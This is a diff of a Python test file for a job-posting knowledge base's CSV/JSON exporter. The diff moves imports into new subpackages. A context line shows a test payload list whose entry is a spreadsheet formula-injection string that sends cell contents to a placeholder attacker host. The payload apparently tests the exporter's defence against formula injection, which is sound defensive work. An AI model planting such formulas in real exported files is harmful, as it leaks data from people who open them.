@@ -10,10 +10,10 @@ from pathlib import Path
 
 import pytest
 from conftest import invoke, make_site
-from roledex.export import COLUMNS, FORMULA_STARTS, as_csv, as_json, export_rows
-from roledex.model import Company, KnowledgeBase, Posting, Salary
-from roledex.settings import Settings
-from roledex.source import Document
+from roledex.facts.export import COLUMNS, FORMULA_STARTS, as_csv, as_json, export_rows
+from roledex.kb.model import Company, KnowledgeBase, Posting, Salary
+from roledex.kb.settings import Settings
+from roledex.kb.source import Document
 
 PAYLOADS = [
     '=1+HYPERLINK("https://evil.example/?"&A1,"x")',
